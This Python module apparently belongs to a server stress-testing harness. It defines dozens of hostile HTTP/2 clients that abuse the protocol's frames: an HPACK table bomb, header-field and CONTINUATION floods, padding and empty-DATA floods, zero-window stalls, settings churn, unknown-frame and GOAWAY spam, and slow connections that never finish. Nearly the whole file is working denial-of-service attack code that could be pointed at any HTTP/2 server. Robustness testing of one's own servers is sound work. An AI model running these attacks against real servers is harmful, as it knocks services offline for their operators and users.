"""Hostile clients of HTTP/2 that misuse its frames: header blocks, settings, flow control, closed streams."""

from __future__ import annotations

import asyncio
import itertools
import random
import struct
from collections.abc import Callable, Iterator

import hpack
from attack import Attack
from http2_attacks import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    START,
    WINDOW_UPDATE,
    block,
    by_stream,
    h2_frame,
    request,
    upload,
)

PRIORITY, GOAWAY, PRIORITY_UPDATE, PADDED = 2, 7, 16, 8
ACK = 1
WINDOW, TABLE = 4, 1
WIDE = PREFACE + h2_frame(SETTINGS, 0, 0, struct.pack('!HI', WINDOW, 2**31 - 1))
WIDE += h2_frame(WINDOW_UPDATE, 0, 0, struct.pack('!I', 2**30))


def setting(*pairs: tuple[int, int]) -> bytes:
    return h2_frame(SETTINGS, 0, 0, b''.join(struct.pack('!HI', *pair) for pair in pairs))


def head(stream: int, payload: bytes) -> bytes:
    """Return HEADERS, and CONTINUATION as needed, of a GET with a block added to its own."""
    payload = block('/quick/x') + payload
    parts = [payload[at : at + 16384] for at in range(0, len(payload), 16384)]
    frames = [h2_frame(HEADERS if n == 0 else CONTINUATION, 0, stream, part) for n, part in enumerate(parts)]
    flags = END_STREAM * (len(parts) == 1) | END_HEADERS
    if len(parts) == 1:
        return h2_frame(HEADERS, flags, stream, payload)
    frames[0] = h2_frame(HEADERS, END_STREAM, stream, parts[0])
    frames[-1] = h2_frame(CONTINUATION, END_HEADERS, stream, parts[-1])
    return b''.join(frames)


async def floods(
    attack: Attack, begin: bytes, make: Callable[[Iterator[int]], bytes], pause: float = 0
) -> None:
    """Send what `make` gives again and again; it takes the numbers of new streams from what it is given."""

    async def one() -> None:
        async with attack.connection(http2=True) as (reader, writer):
            streams = itertools.count(1, 2)
            writer.write(begin)
            while attack.running and not reader.at_eof():
                writer.write(make(streams))
                await writer.drain()
                attack.discard(reader)
                await asyncio.sleep(pause)

    await attack.many(one)


async def hpack_bomb(attack: Attack) -> None:
    """Put a field of 4 KB into the table, and refer to it as often as the header list allows, and beyond."""
    first = b'\x40\x01x' + b'\x7f' + b'\x81\x1e' + b'y' * 3968
    writing = head(1, first)
    await by_stream(
        attack, lambda stream: head(stream, b'\xbe' * (14 if stream % 40 else 5000)), START + writing
    )


async def tiny_fields(attack: Attack) -> None:
    """Send header lists of fields of no bytes, as many as the list allows."""
    await by_stream(attack, lambda stream: head(stream, b'\x00\x01a\x00' * 90))


async def too_many_fields(attack: Attack) -> None:
    """Send header lists of 5,000 fields of a byte."""
    await by_stream(attack, lambda stream: head(stream, b'\x00\x01a\x00' * 5000))


async def h2_cookies(attack: Attack) -> None:
    """Send a cookie in crumbs of a byte."""
    await by_stream(attack, lambda stream: head(stream, b'\x0f\x11\x01a' * 1600))


async def huffman(attack: Attack) -> None:
    """Send four fields of 3 KB in Huffman's code, no two alike."""
    encoder = hpack.Encoder()
    blocks = []
    for _ in range(12):
        fields = [('x', ''.join(random.choices('{}~^|\\<>@#$', k=3000))) for _ in range(4)]
        blocks.append(bytes(encoder.encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields])))
    await by_stream(attack, lambda stream: head(stream, random.choice(blocks)))


async def new_table_entries(attack: Attack) -> None:
    """Fill the dynamic table with fields that never come again, and empty it at times."""

    def one(stream: int) -> bytes:
        fields = b''.join(b'\x40\x08%08x\x04abcd' % random.getrandbits(32) for _ in range(60))
        return (
            head(stream, fields)
            if stream % 20
            else h2_frame(
                HEADERS, END_STREAM | END_HEADERS, stream, b'\x20\x3f\xe1\x1f' + block('/quick/x') + fields
            )
        )

    await by_stream(attack, one)


async def priorities(attack: Attack) -> None:
    """Send PRIORITY frames for streams that there are not."""
    frames = b''.join(h2_frame(PRIORITY, 0, n, struct.pack('!IB', n + 2, 7)) for n in range(1, 601, 2))
    await floods(attack, START, lambda _: frames)


async def priority_updates(attack: Attack) -> None:
    frames = b''.join(
        h2_frame(PRIORITY_UPDATE, 0, 0, struct.pack('!I', n) + b'u=1') for n in range(1, 601, 2)
    )
    await floods(attack, START, lambda _: frames)


async def padding(attack: Attack) -> None:
    """Upload in DATA frames of one byte and 255 of padding."""
    data = h2_frame(DATA, PADDED, 1, b'\xff' + b'x' + bytes(255))
    await floods(attack, START + upload(1), lambda _: data * 200)


async def only_padding(attack: Attack) -> None:
    """Upload in DATA frames of padding alone."""
    data = h2_frame(DATA, PADDED, 1, b'\xff' + bytes(255))
    await floods(attack, START + upload(1), lambda _: data * 200)


async def empty_data(attack: Attack) -> None:
    """Send DATA frames of nothing."""
    await floods(attack, START + upload(1), lambda _: h2_frame(DATA, 0, 1) * 1000)


async def empty_continuations(attack: Attack) -> None:
    """Send CONTINUATION frames of nothing."""
    begin = START + request(1, flags=0)
    await floods(attack, begin, lambda _: h2_frame(CONTINUATION, 0, 1) * 1000)


async def unfinished_heads(attack: Attack) -> None:
    """Send HEADERS without END_HEADERS, 16 KiB of it, and no more."""
    begin = START + h2_frame(HEADERS, 0, 1, block('/quick/x') + (b'\x00\x01x\x7f\x81\x1c' + b'y' * 3712) * 4)
    await attack.many(lambda: attack.hold(begin, http2=True))


async def unfinished_trailers(attack: Attack) -> None:
    """Upload, and send trailers that do not end."""
    begin = (
        START + upload(1) + h2_frame(DATA, 0, 1, b'x') + h2_frame(HEADERS, END_STREAM, 1, b'\x00\x01a\x01b')
    )
    await floods(attack, begin, lambda _: h2_frame(CONTINUATION, 0, 1, b'\x00\x01a\x01b' * 200) * 10)


async def many_trailers(attack: Attack) -> None:
    """Upload on each stream, with 80 trailers."""
    tail = b''.join(b'\x00\x03x%02d\x01b' % number for number in range(80))
    await by_stream(
        attack,
        lambda stream: (
            upload(stream)
            + h2_frame(DATA, 0, stream, b'x')
            + h2_frame(HEADERS, END_STREAM | END_HEADERS, stream, tail)
        ),
    )


async def half_bodies(attack: Attack) -> None:
    """Reset each stream within its body."""
    reset = struct.pack('!I', 8)
    await by_stream(
        attack,
        lambda stream: (
            upload(stream) + h2_frame(DATA, 0, stream, b'x' * 100) + h2_frame(RST_STREAM, 0, stream, reset)
        ),
    )


async def bodiless_streams(attack: Attack) -> None:
    """Open 100 streams on each connection whose bodies never come."""
    begin = START + b''.join(upload(stream) for stream in range(1, 200, 2))
    await attack.many(lambda: attack.hold(begin, http2=True))


async def idle_streams(attack: Attack) -> None:
    """Ask on 100 streams of each connection for what cannot be sent: their windows are 0."""
    begin = PREFACE + setting((WINDOW, 0)) + b''.join(request(n) for n in range(1, 200, 2))
    await attack.many(lambda: attack.hold(begin, http2=True))


async def too_many_streams(attack: Attack) -> None:
    """Open streams far beyond the limit, their bodies never come."""
    await by_stream(attack, upload)


async def table_sizes(attack: Attack) -> None:
    """Change the size of the header table with each request."""
    await floods(
        attack,
        START,
        lambda streams: b''.join(setting((TABLE, n % 2 * 4096)) + request(next(streams)) for n in range(50)),
    )


def waiting(count: int = 100) -> bytes:
    """Return requests for large responses whose windows are 0."""
    begin = PREFACE + setting((WINDOW, 0)) + h2_frame(WINDOW_UPDATE, 0, 0, struct.pack('!I', 2**30))
    return begin + b''.join(request(n, '/large/1000000') for n in range(1, 2 * count, 2))


async def window_settings(attack: Attack) -> None:
    """Change the initial window back and forth while 100 responses wait for it."""
    await floods(attack, waiting(), lambda _: setting((WINDOW, 1)) + setting((WINDOW, 0)), 0.001)


async def repeated_settings(attack: Attack) -> None:
    """Change the initial window 2,700 times within one frame while 100 responses wait for it."""
    await floods(attack, waiting(), lambda _: setting(*((WINDOW, n % 2) for n in range(2700))), 0.01)


async def unknown_settings(attack: Attack) -> None:
    """Send frames of 2,700 settings that there are not."""
    await floods(attack, START, lambda _: setting(*((0x100 + n, n) for n in range(2700))), 0.001)


async def window_bytes(attack: Attack) -> None:
    """Open the windows of 100 responses by a byte, as fast as it goes."""
    frames = b''.join(h2_frame(WINDOW_UPDATE, 0, n, struct.pack('!I', 1)) for n in range(1, 200, 2))
    await floods(attack, waiting(), lambda _: frames)


async def connection_window_bytes(attack: Attack) -> None:
    """Open the connection's window by a byte while 100 responses wait for it."""
    begin = WIDE + b''.join(request(n, '/large/1000000') for n in range(1, 200, 2))
    begin = PREFACE + setting((WINDOW, 2**31 - 1)) + begin[len(WIDE) :]
    await floods(attack, begin, lambda _: h2_frame(WINDOW_UPDATE, 0, 0, struct.pack('!I', 1)) * 50)


async def goaways(attack: Attack) -> None:
    """Say GOAWAY again and again with 10 KB of text, and go on with requests."""
    away = h2_frame(GOAWAY, 0, 0, struct.pack('!II', 0, 0) + b'x' * 10_000)
    await floods(attack, START, lambda streams: away + request(next(streams)))


async def unknown_frames(attack: Attack) -> None:
    """Send frames of types that there are not, most of nothing, some of 16 KiB."""
    empty = b''.join(h2_frame(kind, 0xFF, kind % 4) for kind in range(0x20, 0x80))
    await floods(attack, START, lambda _: empty * 10 + h2_frame(0x99, 0, 0, bytes(16384)))


async def large_unknown_frames(attack: Attack) -> None:
    await floods(attack, START, lambda _: h2_frame(0x99, 0, 0, bytes(16384)) * 4)


async def acknowledgements(attack: Attack) -> None:
    """Acknowledge settings and pings that the server has not sent."""
    await floods(
        attack, START, lambda _: (h2_frame(PING, ACK, 0, bytes(8)) + h2_frame(SETTINGS, ACK, 0)) * 200
    )


async def closed_streams(attack: Attack) -> None:
    """Send DATA, windows and resets for streams that have ended."""

    def make(streams: Iterator[int]) -> bytes:
        n = next(streams)
        late = h2_frame(DATA, 0, n, b'x') + h2_frame(WINDOW_UPDATE, 0, n, struct.pack('!I', 1))
        return request(n) + (late + h2_frame(RST_STREAM, 0, n, struct.pack('!I', 8))) * 20

    await floods(attack, START, make)


async def late_data(attack: Attack) -> None:
    """Push 16 KiB a time at streams that the server has refused."""
    refused = h2_frame(HEADERS, END_HEADERS, 1, block('/refuse/x', 'POST'))
    await floods(attack, START + refused, lambda _: h2_frame(DATA, 0, 1, bytes(16384)) * 4)


async def malformed_heads(attack: Attack) -> None:
    """Open streams whose heads are refused: an upper-case name, a field of the connection, no path."""
    bad = [b'\x00\x01A\x01b', b'\x00\x0aconnection\x01b', b'\x00\x05:path\x01b', b'\x00\x02te\x01b']
    await by_stream(attack, lambda stream: head(stream, bad[stream // 2 % 4]))


async def spread_bytes(attack: Attack) -> None:
    """Upload on 100 streams, a byte of each in turn."""
    begin = START + b''.join(upload(n) for n in range(1, 200, 2))
    data = b''.join(h2_frame(DATA, 0, n, b'x') for n in range(1, 200, 2))
    await floods(attack, begin, lambda _: data * 20)


async def unread_large_streams(attack: Attack) -> None:
    """Ask for 20 MB on 100 streams of each connection, with wide windows, and read nothing."""
    begin = WIDE + b''.join(request(n, '/large/20000000') for n in range(1, 200, 2))
    await attack.many(lambda: attack.hold(begin, http2=True))


async def half_prefaces(attack: Attack) -> None:
    """Send half of the preface, or half of a frame."""
    pieces = (PREFACE[:14], PREFACE, PREFACE + b'\0', START + request(1)[:12])
    await attack.many(lambda: attack.hold(random.choice(pieces), http2=True))


async def quick_streams(attack: Attack) -> None:
    """Ask on 100 streams at once, and read the answers: what is honest, without end."""
    await by_stream(attack, request)


def connect(stream: int) -> bytes:
    """Return the request of a WebSocket on a stream (RFC 8441)."""
    fields = [
        (':method', 'CONNECT'), (':protocol', 'websocket'), (':scheme', 'http'), (':authority', 'test'),
        (':path', '/ws'), ('sec-websocket-version', '13'),
    ]  # fmt: skip
    packed = bytes(hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields]))
    return h2_frame(HEADERS, END_HEADERS, stream, packed)


async def h2_websockets(attack: Attack) -> None:
    """Open WebSockets on 50 streams of each connection, and send a ping in each frame."""
    streams = range(1, 100, 2)
    ping = b'\x89\x88abcd12345678'
    frames = b''.join(h2_frame(DATA, 0, n, ping) for n in streams)
    await floods(attack, START + b''.join(map(connect, streams)), lambda _: frames)


async def h2_websocket_bytes(attack: Attack) -> None:
    """Send messages of a byte on 50 WebSockets of each connection, and read the echoes."""
    streams = range(1, 100, 2)
    wide = setting((WINDOW, 2**31 - 1)) + h2_frame(WINDOW_UPDATE, 0, 0, struct.pack('!I', 2**30))
    frames = b''.join(h2_frame(DATA, 0, n, b'\x82\x81abcdx' * 5) for n in streams)
    await floods(attack, START + wide + b''.join(map(connect, streams)), lambda _: frames)


FRAME_FLOODS = (
    hpack_bomb, tiny_fields, too_many_fields, h2_cookies, huffman,
    new_table_entries, priorities, priority_updates,
    padding, only_padding, empty_data, empty_continuations, unfinished_trailers, many_trailers, half_bodies,
    too_many_streams, table_sizes, window_settings, repeated_settings, unknown_settings, window_bytes,
    connection_window_bytes, goaways, unknown_frames, large_unknown_frames, acknowledgements, closed_streams,
    late_data, malformed_heads, spread_bytes, quick_streams,
)  # fmt: skip
FRAME_DRIPS = (unfinished_heads, bodiless_streams, idle_streams, unread_large_streams, half_prefaces)
FRAME_WEBSOCKETS = (h2_websockets, h2_websocket_bytes)
